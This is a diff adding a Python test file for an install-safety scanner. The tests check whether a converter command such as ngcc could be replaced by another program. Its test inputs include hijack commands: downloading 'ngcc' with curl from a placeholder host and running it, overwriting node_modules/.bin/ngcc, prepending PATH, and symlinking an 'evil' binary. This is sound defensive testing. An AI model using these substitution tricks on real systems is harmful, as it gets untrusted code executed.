@@ -1,0 +1,57 @@
+"""A program that only converts files is the system's own, unless somebody may have put another in its place."""
+
+from __future__ import annotations
+
+import pytest
+
+from safe_install.model import BoundaryKind
+from tests.builders import Files
+from tests.scan.trees import beside, inspect, kinds, reached
+
+ICONS = 'for f in a/*.svg; do rsvg-convert -w 32 "$f" -o "b/$(basename "$f" .svg).png"; done'
+
+
+@pytest.mark.parametrize(
+    ("command", "files"),
+    [
+        ("ngcc --first-only", {}),
+        ("tsc -p .", {"tsconfig.json": "{}"}),
+        ("sh a.sh", {"a.sh": ICONS, "a/b.svg": "<svg/>"}),
+    ],
+)
+def test_a_known_converter_is_told_and_hides_nothing(command: str, files: Files) -> None:
+    inspection = inspect(command, files)
+    assert not inspection.gaps
+    assert [end.kind for end in inspection.boundaries] == [BoundaryKind.RUNS_NATIVE]
+    assert not inspection.harmless
+
+
+@pytest.mark.parametrize(
+    ("command", "files"),
+    [
+        ("some-converter a.svg", {}),
+        ("ngcc", {"node_modules/.bin/ngcc": "#!/usr/bin/env node\n"}),
+        ("ngcc", {"bin/NGCC.exe": "MZ"}),
+        ("cp a.txt node_modules/.bin/ngcc; ngcc", {"a.txt": "x"}),
+        ("cat a.txt > ngcc.cmd; ngcc", {"a.txt": "x"}),
+        ("tar -xf a.tgz; ngcc", {"a.tgz": "x"}),
+        ("curl -O https://a.test/ngcc; ngcc", {}),
+        ("PATH=./x:$PATH ngcc", {}),
+        ("node a && ngcc", {"a.js": "require('fs').writeFileSync(process.argv[2] + x, 'y')"}),
+        ("node a && ngcc", {"a.js": "require('fs').symlinkSync('./evil', '../.bin/ngcc')"}),
+        ("node a && ngcc", {"a.js": "require('child_process').execFileSync('unpacker', ['a'])"}),
+    ],
+)
+def test_a_converter_that_may_be_another_program_is_a_gap(command: str, files: Files) -> None:
+    assert kinds(inspect(command, files)) & {"unknown-program", "dynamic"}
+
+
+def test_a_package_that_provides_a_converter_is_read() -> None:
+    evil = beside("evil", {"e.js": "#!/usr/bin/env node\nrequire(x)"}, bin={"ngcc": "e.js"})
+    assert "evil:e.js" in reached(inspect("ngcc", {}, evil))
+
+
+def test_a_library_that_may_unpack_something_leaves_the_converter_unknown() -> None:
+    evil = beside("evil", {"index.js": "require(x)"})
+    files = {"a.js": "require('evil').unpack('a.tgz')"}
+    assert kinds(inspect("node a && ngcc", files, evil, dependencies={"evil": "2"})) == {"unknown-program"}
